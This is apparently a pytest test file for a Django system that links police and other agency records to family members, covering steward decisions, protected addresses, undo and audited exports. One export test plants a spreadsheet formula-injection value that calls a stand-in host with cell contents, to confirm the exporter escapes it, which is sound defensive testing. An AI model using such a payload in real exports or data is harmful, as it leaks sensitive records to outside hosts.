import hashlib
import io
import re
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse

from alongside.access import days
from alongside.access.models import TrailEntry
from alongside.access.policy import Role
from alongside.context import deciding, deliveries, exporting, linking_up, loading, models_of_linkage
from alongside.context.errors import CannotDecide, CannotTake
from alongside.context.models import AgencyRecord, Decision, FeedDelivery, Pair
from alongside.context.states import State
from alongside.desk import news
from alongside.people import actions as people
from alongside.people import from_case_system as corrections
from alongside.people import merging
from alongside.people.from_case_system import join_family
from alongside.practice import profile
from tests.context import services
from tests.people import staff


@pytest.fixture
def pair(world, police):
    return Pair.objects.linked().get(person=world.amina)


@pytest.fixture
def unsure(world, steward_here, tmp_path):
    """Somebody of Samira's name and year who was born on another day: likely, and no rule may say so."""
    samira = world.family.people.get(forename="Samira")
    row = services.known_as(samira, "N5", born_on=samira.birth_on.replace(month=1, day=9).strftime("%d/%m/%Y"))
    services.bring(tmp_path, "police", steward_here, row)
    return Pair.objects.get(person=samira)


def also_compared(pair, person, **more):
    """A pair of the same record with somebody else, about which nobody has decided."""
    other = Pair(
        feed=pair.feed, record_key=pair.record_key, person=person, data_key=person.data_key, band="uncertain",
        probability=0.7, model_version="x", evidence=pair.evidence, compared_at=pair.compared_at, said_then="x",
        **{"waits_as": Pair.Waits.NEW} | more,
    )  # fmt: skip
    other.save(force_insert=True)
    return other


def service_of(world, person, feed="police"):
    """A service as Maria's page has it for somebody of the family."""
    [card] = [
        each for each in loading.cards_of(world.family, days.today(), world.maria.account) if each.person == person
    ]
    return next(each for each in card.services if each.feed.key == feed)


def seen_in(html):
    """What the form says that it showed."""
    tag = re.search(r'<input[^>]*name="seen"[^>]*>', html)[0]
    return re.search(r'value="([^"]+)"', tag)[1]


def state_of(world, person):
    return service_of(world, person).state


def test_a_certain_pair_is_linked_by_the_rule_and_says_so(pair):
    decision = pair.decisions.get()
    assert (decision.by, decision.verdict, pair.waits_as) == (None, Pair.Verdict.SAME, "")


def test_an_uncertain_pair_waits_for_a_data_steward_who_sees_both_sides_and_the_evidence(world, unsure, steward_here):
    assert (unsure.stands, unsure.waits_as) == ("", Pair.Waits.NEW)
    client = world.of(steward_here)
    html = client.get(reverse("link", kwargs={"pair": unsure.pk})).content.decode()
    assert "The same first name" in html
    assert "Samira" in html
    assert "1962" in html
    assert "Only the year of birth is the same" in html
    client.post(reverse("link", kwargs={"pair": unsure.pk}), {"verdict": "same", "because": "I rang them."})
    unsure.refresh_from_db()
    assert unsure.stands == Pair.Verdict.SAME
    assert "Samira" in client.get(reverse("links_decided")).content.decode()


def test_a_data_steward_reads_how_addresses_compare_and_no_address(world, steward_here, tmp_path):
    home = {"address": "14 Old Mill Lane, Riverside", "postcode": "RV2 6LM", "born_on": "09/01/1987"}
    services.bring(tmp_path, "police", steward_here, services.known_as(world.dean, "N2", **home))
    pair = Pair.objects.get(person=world.dean)
    html = world.of(steward_here).get(reverse("link", kwargs={"pair": pair.pk})).content.decode()
    assert "The same address" in html
    assert "Old Mill" not in html
    assert "RV2" not in html


def test_a_decision_is_taken_back_and_what_stood_before_stands_again(world, pair, steward_here):
    first = deciding.decide(pair, verdict=Pair.Verdict.DIFFERENT, because="No.", by=steward_here)
    undo = reverse("undo_link", kwargs={"pair": pair.pk})
    assert world.of(steward_here).get(undo).status_code == 405
    assert world.of(steward_here).post(undo, {"decision": str(first.pk)}).status_code == 302
    pair.refresh_from_db()
    assert pair.stands == Pair.Verdict.SAME
    for unknown in ("", "0", str(pair.pk)):
        assert world.of(steward_here).post(undo, {"decision": unknown}).status_code == 404
    again = world.of(steward_here).post(undo, {"decision": str(first.pk)}, follow=True)
    assert (again.status_code, "Somebody decided since" in again.content.decode()) == (200, True)
    with pytest.raises(CannotDecide):
        deciding.undo(first, by=steward_here)
    assert Decision.objects.filter(pair=pair).count() == 2, "nothing is deleted"


def test_cannot_tell_asks_a_colleague_once(world, unsure, steward_here):
    deciding.decide(unsure, verdict=Pair.Verdict.CANNOT_TELL, because="", by=steward_here)
    unsure.refresh_from_db()
    assert unsure.waits_as == Pair.Waits.SECOND
    assert state_of(world, unsure.person) is State.BEING_CHECKED
    with pytest.raises(CannotDecide):
        deciding.decide(unsure, verdict=Pair.Verdict.SAME, because="", by=steward_here)
    colleague = staff.account("Stu Ford", Role.DATA_STEWARD)
    deciding.decide(unsure, verdict=Pair.Verdict.CANNOT_TELL, because="", by=colleague)
    unsure.refresh_from_db()
    assert (unsure.stands, unsure.waits_as) == (Pair.Verdict.CANNOT_TELL, "")
    assert state_of(world, unsure.person) is State.UNCLEAR


def test_a_decision_that_somebody_made_meanwhile_is_shown_and_not_written_over(world, pair, steward_here):
    client, page = world.of(steward_here), reverse("link", kwargs={"pair": pair.pk})
    seen = seen_in(client.get(page).content.decode())
    deciding.say_wrong_person(pair, because="I rang: she is 70.", by=world.maria.account)
    late = client.post(page, {"verdict": "same", "because": "The names agree.", "seen": seen})
    html = late.content.decode()
    assert late.status_code == 200
    assert "changed this while you were writing" in html
    assert "I rang: she is 70." in html
    assert "The names agree." in html
    pair.refresh_from_db()
    assert (pair.stands, pair.waits_as) == (Pair.Verdict.DIFFERENT, Pair.Waits.WRONG)
    again = {"verdict": "same", "because": "I rang too.", "seen": seen_in(html)}
    assert client.post(page, again).status_code == 302
    pair.refresh_from_db()
    assert pair.stands == Pair.Verdict.SAME


def test_one_record_is_never_linked_with_two_people(world, pair, steward_here):
    other = Pair(
        feed=pair.feed, record_key=pair.record_key, person=world.dean, data_key=world.dean.data_key, band="uncertain",
        probability=0.7, model_version="x", evidence=pair.evidence, compared_at=pair.compared_at, said_then="x",
        waits_as="new",
    )  # fmt: skip
    other.save(force_insert=True)
    with pytest.raises(CannotDecide):
        deciding.decide(other, verdict=Pair.Verdict.SAME, because="", by=steward_here)
    assert deciding.decide_by_rule(other) is None


def test_what_people_decided_outlives_deliveries_and_is_looked_at_again_when_the_record_changes(
    world, pair, steward_here, tmp_path
):
    deciding.decide(pair, verdict=Pair.Verdict.DIFFERENT, because="No.", by=steward_here)
    services.bring(tmp_path, "police", steward_here, services.known_as(world.amina, "N1"))
    pair.refresh_from_db()
    assert (pair.stands, pair.waits_as) == (Pair.Verdict.DIFFERENT, "")
    services.bring(tmp_path, "police", steward_here, services.known_as(world.amina, "N1", forename="Amena"))
    pair.refresh_from_db()
    assert (pair.stands, pair.waits_as) == (Pair.Verdict.DIFFERENT, Pair.Waits.CHANGED)


def test_a_wrong_person_is_asked_about_first_although_the_record_has_changed_since(world, pair, steward_here, tmp_path):
    deciding.say_wrong_person(pair, because="I rang: she is 70.", by=world.maria.account)
    services.bring(tmp_path, "police", steward_here, services.known_as(world.amina, "N1", forename="Amena"))
    pair.refresh_from_db()
    assert (pair.stands, pair.waits_as) == (Pair.Verdict.DIFFERENT, Pair.Waits.WRONG)


def test_what_only_the_rule_had_linked_comes_off_when_it_is_certain_no_longer(world, pair, steward_here, tmp_path):
    services.bring(
        tmp_path, "police", steward_here, services.known_as(world.amina, "N1", forename="Zofia", born_on="01/01/1950")
    )
    pair.refresh_from_db()
    assert pair.stands == ""


def test_a_delivery_that_is_taken_back_is_shown_no_more_and_what_it_replaced_is_again(
    world, police, pair, steward_here, tmp_path
):
    newer = services.bring(
        tmp_path, "police", steward_here, services.known_as(world.amina, "N1", practitioner_name="New Name")
    )
    page = reverse("services", kwargs={"family": world.family.pk})
    client = world.of(world.maria)
    client.post(page, {"why": "contact", "because": ""})
    assert "New Name" in client.get(page).content.decode()
    path = reverse("take_back_delivery", kwargs={"delivery": newer.pk})
    assert world.of(world.maria).get(path).status_code == 404
    assert world.of(steward_here).post(path, {"because": "The wrong file."}).status_code == 302
    html = client.get(page).content.decode()
    assert "New Name" not in html
    assert "Pat Reed" in html
    again = world.of(steward_here).post(path, {"because": "Pressed twice."}, follow=True)
    assert again.redirect_chain[-1][0] == reverse("feeds")
    assert "taken back already" in again.content.decode()
    newer.refresh_from_db()
    assert newer.taken_back_because == "The wrong file."


def test_comparing_again_changes_nothing(world, police, steward_here):
    before = (
        list(Decision.objects.values_list("pk", flat=True)),
        list(AgencyRecord.objects.values_list("pk", flat=True)),
    )
    services.link(steward_here)
    assert before == (
        list(Decision.objects.values_list("pk", flat=True)),
        list(AgencyRecord.objects.values_list("pk", flat=True)),
    )


def test_a_protected_address_is_no_reason_that_anybody_is_shown(world, steward_here, tmp_path):
    row = services.known_as(
        world.amina, "N1", address="Flat 3 Heron Court, Saltmarsh Walk", postcode="RV7 4QD", born_on="12/04/1993"
    )
    services.bring(tmp_path, "police", steward_here, row)
    pair = Pair.objects.get(person=world.amina)
    html = world.of(steward_here).get(reverse("link", kwargs={"pair": pair.pk})).content.decode()
    assert world.amina.addresses.filter(is_protected=True).exists()
    for word in ("Heron", "Saltmarsh", "RV7", "The same address", "The same postcode", "Another address"):
        assert word not in html, word
    assert "one of them is protected" in html


def test_a_record_that_may_be_of_somebody_else_who_fled_shows_no_address(world, steward_here, tmp_path):
    row = services.known_as(world.amina, "N1", address="Flat 3 Heron Court, Saltmarsh Walk", postcode="RV7 4QD")
    services.bring(tmp_path, "police", steward_here, row)
    other = also_compared(Pair.objects.get(person=world.amina), world.family.people.get(forename="Samira"))
    page = reverse("link", kwargs={"pair": other.pk})
    html = world.of(steward_here).get(page).content.decode()
    assert "RV7" not in html
    assert "Heron" not in html
    assert "one of them is protected" in html
    Pair.objects.filter(person=world.amina).update(stands=Pair.Verdict.DIFFERENT)
    assert "Heron" not in world.of(steward_here).get(page).content.decode(), "it is her home, whoever the record is of"


def test_how_the_record_of_another_home_compares_is_told_once_it_is_not_hers(world, steward_here, tmp_path):
    row = services.known_as(world.amina, "N1", address="9 Quay Road", postcode="RV1 1AA")
    services.bring(tmp_path, "police", steward_here, row)
    other = also_compared(Pair.objects.get(person=world.amina), world.family.people.get(forename="Samira"))
    page = reverse("link", kwargs={"pair": other.pk})
    assert "one of them is protected" in world.of(steward_here).get(page).content.decode()
    Pair.objects.filter(person=world.amina).update(stands=Pair.Verdict.DIFFERENT)
    html = world.of(steward_here).get(page).content.decode()
    assert "one of them is protected" not in html
    assert "Quay" not in html, "a data steward reads no address"


def test_a_certain_record_of_somebody_else_is_for_the_steward_to_look_at(world, pair, steward_here):
    other = also_compared(pair, world.family.people.get(forename="Samira"))
    deciding.decide(pair, verdict=Pair.Verdict.DIFFERENT, because="No.", by=steward_here)
    deciding.decide(other, verdict=Pair.Verdict.SAME, because="I rang.", by=steward_here)
    Decision.objects.filter(pair=pair).delete()
    pair.delete()
    services.link(steward_here)
    found = Pair.objects.get(person=world.amina)
    assert (found.stands, found.waits_as) == ("", Pair.Waits.NEW)


def test_whose_name_or_birth_date_was_corrected_is_not_checked_by_these_until_the_next_comparison(world, police):
    samira = world.family.people.get(forename="Samira")
    assert state_of(world, samira) is State.NO_RECORD
    corrections.correct_person(samira, surname="Hazeldean", by=None)
    assert state_of(world, samira) is State.NOT_CHECKED
    services.link()
    assert state_of(world, samira) is State.NO_RECORD


def test_a_person_added_since_is_not_checked(world, police):
    uncle = people.add_person(forename="Omar", surname="Hassan", by=None)
    uncle.birth_on = world.amina.birth_on
    uncle.save()
    join_family(world.family, uncle, by=None)
    client, page = world.of(world.maria), reverse("services", kwargs={"family": world.family.pk})
    client.post(page, {"why": "contact", "because": ""})
    assert "this person was added or corrected here after the last check" in client.get(page).content.decode()
    services.link()
    assert "this person was added or corrected here after" not in client.get(page).content.decode()


def test_a_person_who_was_in_no_family_yet_when_others_were_compared_is_not_checked(world, police, steward_here):
    uncle = people.add_person(forename="Omar", surname="Hassan", by=None)
    uncle.birth_on = world.amina.birth_on
    uncle.save()
    services.link(steward_here)
    join_family(world.family, uncle, by=None)
    assert state_of(world, uncle) is State.NOT_CHECKED
    services.link(steward_here)
    assert state_of(world, uncle) is State.NO_RECORD


def test_a_person_is_not_checked_until_every_delivery_that_counts_was_compared(
    world, steward_here, tmp_path, monkeypatch
):
    practice = profile.current()
    feeds = tuple(each.model_copy(update={"holds_all": False}) for each in practice.feeds)
    adding = practice.model_copy(update={"feeds": feeds})
    monkeypatch.setattr(profile, "current", lambda: adding)
    long_ago = days.today() - timedelta(days=40)
    services.bring(tmp_path, "police", steward_here, services.known_as(world.amina, "N1"), as_of=long_ago)
    uncle = people.add_person(forename="Omar", surname="Hassan", by=None)
    uncle.birth_on = world.amina.birth_on
    uncle.save()
    join_family(world.family, uncle, by=None)
    services.take(tmp_path, "police", steward_here, services.known_as(world.dean, "N2"))
    list(linking_up.link_all(by=steward_here, learnt=models_of_linkage.shipped(), only_new=True))
    assert state_of(world, uncle) is State.NOT_CHECKED
    [record] = service_of(world, world.amina).records
    assert record.correct_as_of == long_ago, "it came then, whatever came since"


@pytest.mark.parametrize("how", ["taken back", "replaced"])
def test_a_record_that_is_there_no_more_waits_for_nobody(world, unsure, steward_here, tmp_path, how):
    samira = unsure.person
    assert state_of(world, samira) is State.BEING_CHECKED
    if how == "replaced":
        services.bring(tmp_path, "police", steward_here, services.known_as(world.amina, "N1"))
        assert state_of(world, samira) is State.NO_RECORD
    else:
        deliveries.take_back(FeedDelivery.objects.get(), because="The wrong file.", by=steward_here)
        assert state_of(world, samira) is State.NOT_CHECKED


def test_a_record_linked_with_a_second_record_of_somebody_can_be_linked_with_the_kept_one(
    world, police, pair, steward_here
):
    kept = people.add_person(forename="Amina", surname="Hassan", by=None)
    kept.birth_on = world.amina.birth_on
    kept.save()
    join_family(world.family, kept, by=None)
    other = also_compared(pair, kept)
    with pytest.raises(CannotDecide):
        deciding.decide(other, verdict=Pair.Verdict.SAME, because="", by=steward_here)
    maria, joy = world.maria.account, world.joy.account
    asked = merging.ask(world.family, kept=kept, merged=world.amina, because="The same woman.", by=maria)
    if asked.needs_manager:
        merging.decide(asked, is_right=True, by=joy)
    deciding.decide(other, verdict=Pair.Verdict.SAME, because="", by=steward_here)
    assert state_of(world, kept) is State.CURRENT


def test_what_is_new_counts_no_record_that_the_page_does_not_show(world, police, steward_here, tmp_path):
    def said():
        found = news.of(world.maria.account, {world.family.pk: world.family}, [], days.today() - timedelta(days=30))
        return [each.text for each in found if "linked" in each.text]

    assert said() == ["2 records of services linked"]
    deliveries.take_back(police, because="The wrong file.", by=steward_here)
    assert said() == []
    services.bring(tmp_path, "police", steward_here, services.known_as(world.sam, "N3"))
    assert Pair.objects.linked().filter(person=world.sam).exists()
    assert state_of(world, world.sam) is State.HIDDEN_BY_AGE
    assert said() == []


def test_exported_links_hold_no_formula(world, steward_here, tmp_path):
    services.bring(
        tmp_path, "police", steward_here, services.known_as(world.amina, '=HYPERLINK("http://x.example/"&C2)')
    )
    table, count = exporting.export(steward_here)
    assert count == 1
    assert "'=HYPERLINK" in table
    assert ",=" not in table


def test_exported_links_are_recorded_with_the_digest_of_their_file(world, police, steward_here, tmp_path):
    file = tmp_path / "links.csv"
    call_command("context", "links", "--csv", str(file), "--as", steward_here.sign_in_name, stdout=io.StringIO())
    entry = TrailEntry.objects.get(verb="context.export_links")
    assert entry.account_id == steward_here.pk
    assert entry.detail == {"links": 2, "digest": hashlib.sha256(file.read_bytes()).hexdigest()}
    assert file.stat().st_mode & 0o777 == 0o600


def test_two_records_of_one_person_keep_what_was_decided_about_each(world, pair, steward_here, tmp_path):
    twin_record = people.add_person(forename="Amina", surname="Hassan", by=None)
    join_family(world.family, twin_record, by=None)
    other = Pair(
        feed=pair.feed, record_key=pair.record_key, person=twin_record, data_key=twin_record.data_key, band="uncertain",
        probability=0.7, model_version="x", evidence=pair.evidence, compared_at=pair.compared_at, said_then="x",
    )  # fmt: skip
    other.save(force_insert=True)
    only_theirs = Pair(
        feed=pair.feed, record_key="f" * 64, person=twin_record, data_key=twin_record.data_key, band="uncertain",
        probability=0.7, model_version="x", evidence=pair.evidence, compared_at=pair.compared_at, said_then="x",
    )  # fmt: skip
    only_theirs.save(force_insert=True)
    asked = merging.ask(
        world.family, kept=world.amina, merged=twin_record, because="The same woman.", by=world.maria.account
    )
    merging.decide(asked, is_right=True, by=world.joy.account)
    assert set(Pair.objects.filter(person=world.amina).values_list("record_key", flat=True)) == {
        pair.record_key,
        "f" * 64,
    }
    pair.refresh_from_db()
    assert pair.stands == Pair.Verdict.SAME


def test_a_delivery_is_compared_in_parts_as_it_is_at_once(world, steward_here, tmp_path, monkeypatch):
    monkeypatch.setattr(linking_up, "RECORDS_AT_ONCE", 2)
    people_here = [world.amina, world.dean, world.sam, world.family.people.get(forename="Samira")]
    rows = [services.known_as(person, f"N{place}") for place, person in enumerate(people_here)]
    services.bring(tmp_path, "police", steward_here, *rows, services.known_as(world.amina, "N9", forename="Zofia"))
    found = set(Pair.objects.linked().values_list("person", flat=True))
    assert found == {person.pk for person in people_here}
    monkeypatch.undo()
    services.link(steward_here)
    assert set(Pair.objects.linked().values_list("person", flat=True)) == found


def test_of_a_delivery_that_is_damaged_somewhere_nothing_is_kept(world, pair, steward_here, tmp_path, monkeypatch):
    monkeypatch.setattr(linking_up, "RECORDS_AT_ONCE", 1)
    changed = services.known_as(world.amina, "N1", forename="Amena")
    services.take(tmp_path, "police", steward_here, changed, services.known_as(world.dean, "N2"))
    whole = deliveries.records_of

    def damaged(delivery):
        yield from (batch.slice(0, 1) for batch in whole(delivery))
        raise CannotTake("This file is damaged.")

    monkeypatch.setattr(deliveries, "records_of", damaged)
    before = (pair.said_then, list(Pair.objects.values_list("pk", "stands", "waits_as")))
    with pytest.raises(CannotTake):
        services.link(steward_here)
    pair.refresh_from_db()
    assert before == (pair.said_then, list(Pair.objects.values_list("pk", "stands", "waits_as")))
